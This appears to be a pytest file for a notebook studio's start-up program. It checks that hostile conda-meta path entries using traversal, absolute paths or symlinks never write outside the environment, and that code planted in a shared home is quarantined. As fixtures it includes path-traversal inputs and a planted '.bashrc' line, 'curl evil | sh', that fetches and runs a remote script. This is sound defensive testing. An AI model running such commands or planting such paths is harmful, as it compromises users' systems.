"""The start-up program never bricks a studio and never writes outside what it owns: malformed
kernel specs, state and env directories that are files, symlinked kernels, malformed or hostile
conda-meta; and relocating a large file streams it (bounded memory)."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

from .conftest import Studio

BIG_MB = 200


def handmade_env(studio: Studio, name: str, paths: list, files: dict[str, bytes]) -> Path:
    """An image env without a package manager: the given files and one conda-meta record."""
    prefix = studio.image_envs / name
    (prefix / "conda-meta").mkdir(parents=True)
    for rel, data in files.items():
        (prefix / rel).parent.mkdir(parents=True, exist_ok=True)
        (prefix / rel).write_bytes(data)
    record = {"name": "pkg", "version": "1", "paths_data": {"paths": paths}}
    (prefix / "conda-meta" / "pkg-1-0.json").write_text(json.dumps(record))
    return prefix


def text_entry(rel: str) -> dict:
    return {"_path": rel, "path_type": "hardlink", "prefix_placeholder": "/opt/placeholder",
            "file_mode": "text"}


def test_conda_meta_paths_outside_the_env_are_never_written(studio: Studio) -> None:
    outside = studio.root / "outside"
    outside.mkdir()
    prefix = studio.image_envs / "hostile"
    victims = {n: outside / n for n in ("climb.txt", "absolute.txt", "through-link.txt")}
    for victim in victims.values():
        victim.write_text(f"#!{prefix}/bin/python\n{prefix}\n")
    before = {n: v.read_bytes() for n, v in victims.items()}
    handmade_env(studio, "hostile", [
        text_entry("../" * 12 + str(victims["climb.txt"])[1:]),
        text_entry(str(victims["absolute.txt"])),
        text_entry("linked/through-link.txt"),
        text_entry("bin/tool"),
    ], {"bin/tool": f"#!{prefix}/bin/python\n".encode()})
    (prefix / "linked").symlink_to(outside, target_is_directory=True)

    result = studio.ok("sync-envs")
    assert {n: v.read_bytes() for n, v in victims.items()} == before
    assert "point outside the env and were left alone" in result.stdout
    copy = studio.envs / "hostile"
    assert (copy / "bin" / "tool").read_text() == f"#!{copy}/bin/python\n", "the rest is done"


def test_malformed_conda_meta_is_skipped(studio: Studio) -> None:
    prefix = handmade_env(studio, "odd", [5, {"_path": 3}, "x", text_entry("bin/tool")],
                          {"bin/tool": b"#!/x/bin/python\n"})
    for name, record in {"a.json": {"paths_data": "text"}, "b.json": [1, 2],
                         "c.json": {"paths_data": {"paths": 7}}, "d.json": "{not json"}.items():
        (prefix / "conda-meta" / name).write_text(
            record if isinstance(record, str) else json.dumps(record))
    studio.ok("sync-envs")
    assert (studio.envs / "odd" / "bin" / "tool").exists()


def test_owned_directories_that_are_files_are_moved_aside(studio: Studio) -> None:
    for path in (studio.state, studio.envs, studio.kernels):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("in the way")
    handmade_env(studio, "e", [], {})
    result = studio.ok("sync-envs")
    assert "was not a directory: moved it to" in result.stdout
    assert studio.state.is_dir() and studio.envs.is_dir()
    result = studio.ok("kernels")
    assert studio.kernels.is_dir()
    assert sorted(p.name.split(".not-a-directory-")[0] for p in studio.state.parent.iterdir()
                  if ".not-a-directory-" in p.name) == ["studio"]


def test_kernels_survive_malformed_specs_and_symlinks(studio: Studio) -> None:
    studio.kernels.mkdir(parents=True)
    elsewhere = studio.root / "elsewhere"
    (elsewhere / "k").mkdir(parents=True)
    ours = {"argv": ["x"], "display_name": "x", "metadata": {"studio": {"prefix": "/gone"}}}
    (elsewhere / "k" / "kernel.json").write_text(json.dumps(ours))
    (studio.kernels / "studio-stale").symlink_to(elsewhere / "k", target_is_directory=True)
    for name, text in {"studio-meta-string": json.dumps({"metadata": "x"}),
                       "studio-prefix-int": json.dumps({"metadata": {"studio": {"prefix": 5}}}),
                       "studio-broken": "{nope"}.items():
        (studio.kernels / name).mkdir()
        (studio.kernels / name / "kernel.json").write_text(text)
    studio.ok("kernels")
    assert (elsewhere / "k" / "kernel.json").exists(), "nothing removed through a symlink"
    assert (studio.kernels / "studio-stale").is_symlink()


def run_measured(studio: Studio, step: str) -> int:
    """Run a step in a child and return its peak resident memory in MiB."""
    probe = ("import resource, subprocess, sys\n"
             "code = subprocess.run(sys.argv[1:]).returncode\n"
             "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024)\n"
             "sys.exit(code)\n")
    result = subprocess.run([sys.executable, "-c", probe, *studio.argv(step)],
                            env=studio.environ(), capture_output=True, text=True, timeout=600)
    assert result.returncode == 0, result.stderr
    return int(result.stdout.strip().splitlines()[-1])


def test_relocating_a_large_file_uses_bounded_memory(studio: Studio) -> None:
    prefix = studio.image_envs / "big"
    placeholder = "/opt/" + "p" * 250
    pad = b"\0" * (len(placeholder) - len(str(prefix)) + 1)
    big_text = studio.root / "big.txt"
    with big_text.open("wb") as f:
        f.write(f"#!{prefix}/bin/python\n".encode())
        for _ in range(BIG_MB):
            f.write((b"x" * 1023 + b"\n") * 1024)
        f.write(f"{prefix}/share\n".encode())
    handmade_env(studio, "big", [
        text_entry("share/big.txt"),
        {"_path": "lib/big.so", "path_type": "hardlink", "prefix_placeholder": placeholder,
         "file_mode": "binary"},
    ], {"lib/big.so": b"\x7fELF" + str(prefix).encode() + b"/lib" + pad + b"\1" * (BIG_MB << 20)
        + str(prefix).encode() + b"/etc" + pad})
    (prefix / "share").mkdir()
    big_text.rename(prefix / "share" / "big.txt")

    peak = run_measured(studio, "sync-envs")
    copy = studio.envs / "big"
    with (copy / "share" / "big.txt").open("rb") as f:
        assert f.readline() == f"#!{copy}/bin/python\n".encode()
        f.seek(-200, 2)
        assert f.read().endswith(f"{copy}/share\n".encode())
    with (copy / "lib" / "big.so").open("rb") as f:
        assert f.read(4 + len(str(copy)) + 4) == b"\x7fELF" + f"{copy}/lib".encode()
        f.seek(-4096, 2)
        assert f.read().rstrip(b"\0").endswith(b"\1" + f"{copy}/etc".encode())
    assert (copy / "lib" / "big.so").stat().st_size == (prefix / "lib" / "big.so").stat().st_size
    print(f"peak memory {peak} MiB for a {BIG_MB} MiB file")
    assert peak < 100, f"peak memory {peak} MiB for a {BIG_MB} MiB file"


def set_private(studio: Studio, private: bool) -> None:
    (studio.files / "options.json").write_text(json.dumps({"private": private}))


def test_code_left_by_visitors_is_moved_aside_when_the_studio_is_private_again(
        studio: Studio) -> None:
    startup = studio.home / ".ipython" / "profile_default" / "startup"
    startup.mkdir(parents=True)
    (startup / "00-owner.py").write_text("print('mine')\n")
    set_private(studio, False)
    studio.ok("kernels")  # a shared start
    (startup / "50-visitor.py").write_text("import os  # runs in every kernel\n")
    site = studio.home / ".local" / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    (site / "zz.pth").write_text("import os\n")
    studio.ok("kernels")  # shared again: nothing moves
    assert (startup / "50-visitor.py").exists()

    (studio.home / ".bashrc").write_text("curl evil | sh\n")  # during the last shared run
    set_private(studio, True)
    result = studio.ok("kernels")
    assert "changed while the studio was shared" in result.stdout
    for rel in (".bashrc", ".ipython/profile_default/startup/50-visitor.py",
                ".local/lib/python3.11/site-packages/zz.pth"):
        assert not (studio.home / rel).exists(), rel
    assert (startup / "00-owner.py").exists(), "there before it was shared: not moved"
    notice = (studio.home / "STUDIO-NOTICE.txt").read_text()
    assert "~/.bashrc" in notice and "quarantine" in notice
    result = studio.ok("kernels")  # private again: nothing more to move
    assert "changed while the studio was shared" not in result.stdout


def test_no_usable_home_skips_the_steps_and_the_server_still_starts(studio: Studio) -> None:
    """An image whose user has no home (HOME=/ for a uid without a passwd entry, or a path
    that does not exist) and no home volume: the steps say why they skip; run still runs."""
    missing = str(studio.root / "no-such-home")
    for step in ("sync-envs", "kernels"):
        result = studio.ok(step, HOME=missing)
        assert "skipped: HOME" in result.stdout
    (studio.files / "init.sh").write_text("echo init-ran\n")
    result = studio.ok("run", "--", "echo", "server-started", HOME=missing)
    assert "server-started" in result.stdout
